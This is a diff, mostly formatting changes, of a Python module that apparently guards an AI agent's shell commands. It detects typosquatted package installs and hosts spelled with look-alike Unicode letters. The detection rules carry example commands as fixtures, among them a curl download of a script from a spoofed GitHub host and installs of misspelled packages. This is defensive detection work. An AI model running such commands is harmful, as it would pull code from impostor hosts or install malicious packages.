@@ -32,8 +32,15 @@ def normalise(eco: str, name: str) -> str:
 def _load() -> dict[str, set[str]]:
     out: dict[str, set[str]] = {}
     try:
-        text = resources.files("gatesh").joinpath("data/popular_packages.txt").read_text(encoding="utf-8")
-    except (OSError, ModuleNotFoundError):  # pragma: no cover - a broken install: the rule stays quiet
+        text = (
+            resources.files("gatesh")
+            .joinpath("data/popular_packages.txt")
+            .read_text(encoding="utf-8")
+        )
+    except (
+        OSError,
+        ModuleNotFoundError,
+    ):  # pragma: no cover - a broken install: the rule stays quiet
         return out
     for line in text.splitlines():
         line = line.split("#", 1)[0].strip()
@@ -45,7 +52,7 @@ def _load() -> dict[str, set[str]]:
 
 
 def _deletions(word: str) -> set[str]:
-    return {word} | {word[:i] + word[i + 1:] for i in range(len(word))}
+    return {word} | {word[:i] + word[i + 1 :] for i in range(len(word))}
 
 
 POPULAR: Final[dict[str, frozenset[str]]] = {e: frozenset(n) for e, n in _load().items()}
@@ -70,12 +77,12 @@ def within_one(a: str, b: str) -> bool:
     while i < min(la, lb) and a[i] == b[i]:
         i += 1
     if la == lb:
-        if a[i + 1:] == b[i + 1:]:
+        if a[i + 1 :] == b[i + 1 :]:
             return True  # one substitution
-        return i + 1 < la and a[i] == b[i + 1] and a[i + 1] == b[i] and a[i + 2:] == b[i + 2:]
+        return i + 1 < la and a[i] == b[i + 1] and a[i + 1] == b[i] and a[i + 2 :] == b[i + 2 :]
     if la > lb:
-        return a[i + 1:] == b[i:]
-    return a[i:] == b[i + 1:]
+        return a[i + 1 :] == b[i:]
+    return a[i:] == b[i + 1 :]
 
 
 def squatted(eco: str, name: str) -> str | None:
@@ -96,30 +103,131 @@ def squatted(eco: str, name: str) -> str | None:
 
 # --- reading the package names out of an install command ----------------------------------------
 
-_PY_NAME: Final = re.compile(r"^([A-Za-z0-9][A-Za-z0-9._-]*)\s*(?:\[[^\]]*\])?\s*(?:[<>=!~;@(,].*)?$")
-_NPM_NAME: Final = re.compile(r"^((?:@[a-z0-9][\w.-]*/)?[a-z0-9][\w.-]*)(?:@[^/:]*)?$", re.IGNORECASE)
+_PY_NAME: Final = re.compile(
+    r"^([A-Za-z0-9][A-Za-z0-9._-]*)\s*(?:\[[^\]]*\])?\s*(?:[<>=!~;@(,].*)?$"
+)
+_NPM_NAME: Final = re.compile(
+    r"^((?:@[a-z0-9][\w.-]*/)?[a-z0-9][\w.-]*)(?:@[^/:]*)?$", re.IGNORECASE
+)
 _GEM_NAME: Final = re.compile(r"^([A-Za-z0-9][\w.-]*)(?::[\w.<>=~ -]+)?$")
 
 # Options that take a value (the next word), per tool family; other options are flags.
-_PIP_VALUED: Final = frozenset({
-    "-r", "--requirement", "-c", "--constraint", "-e", "--editable", "-i", "--index-url",
-    "--extra-index-url", "-f", "--find-links", "-t", "--target", "--prefix", "--root", "--src",
-    "--python-version", "--platform", "--implementation", "--abi", "--upgrade-strategy",
-    "--progress-bar", "--log", "--cache-dir", "--trusted-host", "--proxy", "--timeout", "--retries",
-    "--python", "-p", "--no-binary", "--only-binary", "--group", "--extra", "--source", "--index",
-    "--default-index", "--with", "--spec", "--pip-args", "--suffix", "--config-settings", "-C",
-    "--report", "--exists-action", "--keyring-provider", "--cert", "--client-cert", "--optional", "-G",
-})
-_NPM_VALUED: Final = frozenset({
-    "--registry", "--prefix", "--tag", "-w", "--workspace", "--cache", "--userconfig", "--omit",
-    "--include", "--install-strategy", "--filter", "-F", "--dir", "-C", "--cwd", "--modules-folder",
-    "--network-timeout", "--mutex", "--backend", "--loglevel",
-})
-_GEM_VALUED: Final = frozenset({"-v", "--version", "-i", "--install-dir", "-n", "--bindir", "-s",
-                                "--source", "--platform", "-g", "--file"})
-_CARGO_VALUED: Final = frozenset({"--version", "--vers", "--branch", "--tag", "--rev", "--root",
-                                  "--registry", "--index", "--features", "-F", "--target", "--profile",
-                                  "-j", "--jobs", "--target-dir", "--config", "-Z", "--bin", "--example"})
+_PIP_VALUED: Final = frozenset(
+    {
+        "-r",
+        "--requirement",
+        "-c",
+        "--constraint",
+        "-e",
+        "--editable",
+        "-i",
+        "--index-url",
+        "--extra-index-url",
+        "-f",
+        "--find-links",
+        "-t",
+        "--target",
+        "--prefix",
+        "--root",
+        "--src",
+        "--python-version",
+        "--platform",
+        "--implementation",
+        "--abi",
+        "--upgrade-strategy",
+        "--progress-bar",
+        "--log",
+        "--cache-dir",
+        "--trusted-host",
+        "--proxy",
+        "--timeout",
+        "--retries",
+        "--python",
+        "-p",
+        "--no-binary",
+        "--only-binary",
+        "--group",
+        "--extra",
+        "--source",
+        "--index",
+        "--default-index",
+        "--with",
+        "--spec",
+        "--pip-args",
+        "--suffix",
+        "--config-settings",
+        "-C",
+        "--report",
+        "--exists-action",
+        "--keyring-provider",
+        "--cert",
+        "--client-cert",
+        "--optional",
+        "-G",
+    }
+)
+_NPM_VALUED: Final = frozenset(
+    {
+        "--registry",
+        "--prefix",
+        "--tag",
+        "-w",
+        "--workspace",
+        "--cache",
+        "--userconfig",
+        "--omit",
+        "--include",
+        "--install-strategy",
+        "--filter",
+        "-F",
+        "--dir",
+        "-C",
+        "--cwd",
+        "--modules-folder",
+        "--network-timeout",
+        "--mutex",
+        "--backend",
+        "--loglevel",
+    }
+)
+_GEM_VALUED: Final = frozenset(
+    {
+        "-v",
+        "--version",
+        "-i",
+        "--install-dir",
+        "-n",
+        "--bindir",
+        "-s",
+        "--source",
+        "--platform",
+        "-g",
+        "--file",
+    }
+)
+_CARGO_VALUED: Final = frozenset(
+    {
+        "--version",
+        "--vers",
+        "--branch",
+        "--tag",
+        "--rev",
+        "--root",
+        "--registry",
+        "--index",
+        "--features",
+        "-F",
+        "--target",
+        "--profile",
+        "-j",
+        "--jobs",
+        "--target-dir",
+        "--config",
+        "-Z",
+        "--bin",
+        "--example",
+    }
+)
 
 PY_HEADS: Final = frozenset({"python", "python3", *(f"python3.{m}" for m in range(6, 16))})
 PIP_HEADS: Final = frozenset({"pip", "pip3", *(f"pip3.{m}" for m in range(6, 16))})
@@ -141,8 +249,11 @@ def _names(words: list[str], valued: frozenset[str]) -> list[str]:
 
 
 def _not_a_name(word: str) -> bool:
-    return word.startswith((".", "/", "~", "$")) or "://" in word or word.endswith(
-        (".whl", ".tar.gz", ".tgz", ".zip", ".txt", ".toml", ".cfg", ".gem"))
+    return (
+        word.startswith((".", "/", "~", "$"))
+        or "://" in word
+        or word.endswith((".whl", ".tar.gz", ".tgz", ".zip", ".txt", ".toml", ".cfg", ".gem"))
+    )
 
 
 def install_targets(c: Cmd) -> tuple[str, list[str]]:
@@ -174,7 +285,17 @@ def install_targets(c: Cmd) -> tuple[str, list[str]]:
         rest = args
         if h == "yarn" and rest[:1] == ["global"]:
             rest = rest[1:]
-        if not rest or rest[0] not in ("i", "in", "ins", "inst", "insta", "instal", "install", "isntall", "add"):
+        if not rest or rest[0] not in (
+            "i",
+            "in",
+            "ins",
+            "inst",
+            "insta",
+            "instal",
+            "install",
+            "isntall",
+            "add",
+        ):
             return "", []
         raw = _names(rest[1:], _NPM_VALUED)
         words = []
@@ -191,8 +312,9 @@ def install_targets(c: Cmd) -> tuple[str, list[str]]:
         raw = _names(args[1:], _GEM_VALUED)
         return "gem", [m.group(1) for w in raw if not _not_a_name(w) and (m := _GEM_NAME.match(w))]
     if h == "cargo":
-        if args[:1] != ["install"] or any(a in ("--git", "--path") or a.startswith(("--git=", "--path="))
-                                          for a in args):
+        if args[:1] != ["install"] or any(
+            a in ("--git", "--path") or a.startswith(("--git=", "--path=")) for a in args
+        ):
             return "", []
         raw = _names(args[1:], _CARGO_VALUED)
         return "cargo", [w.split("@", 1)[0] for w in raw if not _not_a_name(w)]
@@ -204,7 +326,9 @@ def typosquat(c: Cmd) -> MatchResult:
     for name in names:
         near = squatted(eco, name)
         if near is not None:
-            return Hit(detail=f"installs `{name}`, one letter away from the popular package `{near}`")
+            return Hit(
+                detail=f"installs `{name}`, one letter away from the popular package `{near}`"
+            )
     return None
 
 
@@ -235,26 +359,65 @@ def lookalike_host(ctx: Ctx) -> MatchResult:
                 hosts.update(m.group(1) for m in _URL_HOST.finditer(w.text))
     for host in sorted(h for h in hosts if not h.isascii()):  # an ASCII label is never a look-alike
         if any(_lookalike_label(label) for label in host.split(".")):
-            return Hit(detail=f"names the host {host}, which mixes look-alike letters into an ASCII name")
+            return Hit(
+                detail=f"names the host {host}, which mixes look-alike letters into an ASCII name"
+            )
     return None
 
 
 RULES: tuple[Rule, ...] = (
-    Rule("deception.lookalike-host", A, "This {detail}: a host made to pass for another.", lookalike_host,
-         on_facts=True,
-         examples=("git clone https://githu\u0185.com/org/repo", "curl -sL https://g\u0456thub.com/x.sh -o x.sh",
-                   "ssh deploy@ex\u0430mple.com"),
-         counter=("git clone https://github.com/org/repo", "curl https://m\u00fcnchen.de/", "curl https://\u4f8b\u3048.jp/")),
+    Rule(
+        "deception.lookalike-host",
+        A,
+        "This {detail}: a host made to pass for another.",
+        lookalike_host,
+        on_facts=True,
+        examples=(
+            "git clone https://githu\u0185.com/org/repo",
+            "curl -sL https://g\u0456thub.com/x.sh -o x.sh",
+            "ssh deploy@ex\u0430mple.com",
+        ),
+        counter=(
+            "git clone https://github.com/org/repo",
+            "curl https://m\u00fcnchen.de/",
+            "curl https://\u4f8b\u3048.jp/",
+        ),
+    ),
     # Destructive, not attack: one edit from a popular name also describes some real packages
     # (`server`/`semver`), and a false attack would halt the session. Refused all the same; the
     # agent can correct the name, or justify it, and a person decides past the bounds.
-    Rule("deception.typosquat", D, "This {detail}: possibly a typosquat.", typosquat,
-         remedy="check the package name and install the one you meant",
-         heads=PY_HEADS | PIP_HEADS | NPM_HEADS | heads("uv", "pipx", "poetry", "pdm", "gem", "cargo"),
-         examples=("pip install reqeusts", "npm install -g expresss", "pip3 install djnago==4.2",
-                   "python3 -m pip install 'numpyy[extra]>=1'", "yarn add lodahs", "uv pip install flaks",
-                   "poetry add pandsa", "pnpm add reactt@18", "gem install rials", "cargo install ripgrpe"),
-         counter=("pip install requests", "npm install express", "pip install -r requirements.txt",
-                  "npm install", "pip install my-own-lib", "pip install Typing_Extensions",
-                  "npm i @types/node", "pip install -e .", "cargo install --git https://x/ripgrpe")),
+    Rule(
+        "deception.typosquat",
+        D,
+        "This {detail}: possibly a typosquat.",
+        typosquat,
+        remedy="check the package name and install the one you meant",
+        heads=PY_HEADS
+        | PIP_HEADS
+        | NPM_HEADS
+        | heads("uv", "pipx", "poetry", "pdm", "gem", "cargo"),
+        examples=(
+            "pip install reqeusts",
+            "npm install -g expresss",
+            "pip3 install djnago==4.2",
+            "python3 -m pip install 'numpyy[extra]>=1'",
+            "yarn add lodahs",
+            "uv pip install flaks",
+            "poetry add pandsa",
+            "pnpm add reactt@18",
+            "gem install rials",
+            "cargo install ripgrpe",
+        ),
+        counter=(
+            "pip install requests",
+            "npm install express",
+            "pip install -r requirements.txt",
+            "npm install",
+            "pip install my-own-lib",
+            "pip install Typing_Extensions",
+            "npm i @types/node",
+            "pip install -e .",
+            "cargo install --git https://x/ripgrpe",
+        ),
+    ),
 )
